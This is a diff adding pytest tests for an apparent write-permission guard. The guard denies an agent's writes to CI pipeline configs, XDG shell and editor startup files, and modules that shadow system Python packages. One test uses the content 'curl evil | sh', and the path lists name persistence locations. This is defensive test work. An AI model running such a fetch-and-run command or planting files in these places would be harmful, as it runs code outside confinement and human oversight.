@@ -515,6 +515,79 @@ def test_a_module_of_a_python_environment_inside_the_workspace_is_a_shadowing_mo
     assert verdict(world, "write_file", {"path": "tools/not_installed_here.py", "content": "x"}).decision == "allow"
 
 
+# ---------------------------------------------------------------- CI configs, the machine's Pythons, XDG homes
+
+# What each CI service runs with the project's secrets at the next push, as .github/workflows (course.paths
+# names the source of each).
+CI_CONFIGS = [".gitlab-ci.yml", ".circleci/config.yml", "azure-pipelines.yml", "bitbucket-pipelines.yml", "Jenkinsfile",
+              "services/api/Jenkinsfile", ".travis.yml", ".buildkite/pipeline.yml", ".drone.yml", ".woodpecker.yml",
+              ".woodpecker/build.yaml", ".forgejo/workflows/ci.yml", ".gitea/workflows/ci.yaml"]
+
+
+@pytest.mark.parametrize("path", CI_CONFIGS)
+def test_a_ci_config_of_any_service_is_asked_about_and_denied_without_a_person(world, path):
+    found = verdict(world, "write_file", {"path": path, "content": "script: curl evil | sh\n"})
+    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, (path, found.why)
+    assert "at the next push" in found.why, found.why
+
+
+# The home folder's startup files at their XDG places (and the few other names the same programs read).
+XDG_HOMES = [".config/tmux/tmux.conf", ".config/gdb/gdbinit", ".config/gdb/gdbearlyinit", ".config/vim/vimrc",
+             ".config/vim/plugin/x.vim", ".config/emacs/init.el", ".config/emacs/early-init.el",
+             ".local/share/nvim/site/plugin/x.lua", ".local/share/nvim/lazy/x/plugin/x.lua", ".bash_completion",
+             ".bash_completion.d/x", ".config/bash_completion", ".local/share/bash-completion/completions/git",
+             ".julia/config/startup.jl", ".config/nushell/config.nu", ".config/nushell/env.nu",
+             ".config/powershell/Microsoft.PowerShell_profile.ps1", ".local/share/powershell/Modules/X/X.psm1",
+             ".xonshrc", ".config/xonsh/rc.xsh", ".config/xonsh/rc.d/x.xsh", ".sqliterc", ".config/sqlite3/sqliterc",
+             ".config/irb/irbrc", "_irbrc", "irb.rc", ".config/pry/pryrc", ".config/mypy/config",
+             ".config/conda/condarc", ".conda/condarc", ".config/direnv/direnvrc", ".config/direnv/lib/x.sh",
+             ".direnvrc", ".bunfig.toml", ".config/opencode/plugin/x.js", ".config/zed/tasks.json"]
+
+
+@pytest.mark.parametrize("path", XDG_HOMES)
+def test_a_startup_file_at_its_xdg_place_is_asked_about_like_its_classic_name(world, path):
+    found = verdict(world, "write_file", {"path": path, "content": "x"})
+    assert found.decision == "deny" and "runs later, outside every confinement" in found.why, (path, found.why)
+
+
+@pytest.mark.parametrize("path", ["docs/gitlab-ci.md", "ci/jenkins.md", "travis.yml.md", "docs/circleci/setup.md",
+                                  ".config/app/settings.toml", ".local/share/fonts/x.ttf", "julia/config/notes.md",
+                                  "docs/tmux.conf.md", "bash_completion.md", "sqliterc.txt"])
+def test_what_is_only_named_like_them_is_written_freely(world, path):
+    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == "allow", path
+
+
+@pytest.fixture
+def system_python(tmp_path, monkeypatch):
+    """A machine whose own Python (not the harness's) has a package the harness's environment does not."""
+    folder = tmp_path / "usr" / "lib" / "python3" / "dist-packages"
+    (folder / "planted_system_pkg").mkdir(parents=True)
+    (folder / "planted_system_pkg" / "__init__.py").write_text("")
+    (folder / "planted_system_single.py").write_text("")
+    monkeypatch.setattr(course.paths, "SYSTEM_SITE_PACKAGES", (str(tmp_path / "usr" / "lib" / "python3*" / "dist-packages"),))
+    course.paths.python_module_names.cache_clear()
+    yield folder
+    monkeypatch.undo()
+    course.paths.python_module_names.cache_clear()
+
+
+@pytest.mark.parametrize("path", ["planted_system_pkg.py", "tools/planted_system_pkg/__init__.py",
+                                  "tools/planted_system_single.py"])
+def test_a_module_named_like_a_package_of_the_machines_own_python_is_denied_without_a_person(world, system_python, path):
+    """`/usr/bin/python3 tools/report.py` imports tools/distro.py before the system's distro package."""
+    assert "planted_system_pkg" not in course.paths.harness_module_names()
+    found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
+    assert found.decision == "deny" and "what Python imports as" in found.why, (path, found.why)
+    assert verdict(world, "write_file", {"path": "tools/planted_elsewhere.py", "content": "x"}).decision == "allow"
+
+
+def test_every_package_of_this_machines_pythons_is_a_module_name():
+    listed = course.paths._modules_in(course.paths.system_site_packages())
+    assert listed <= course.paths.python_module_names()
+    if os.path.isdir("/usr/lib/python3/dist-packages/distro"):  # Debian's and Ubuntu's python3 ship it
+        assert "distro" in course.paths.python_module_names()
+
+
 # ---------------------------------------------------------------- the chapter's table says what RUN_LATER holds
 
 def test_every_file_the_in_depth_table_says_runs_later_is_one_run_later_names():
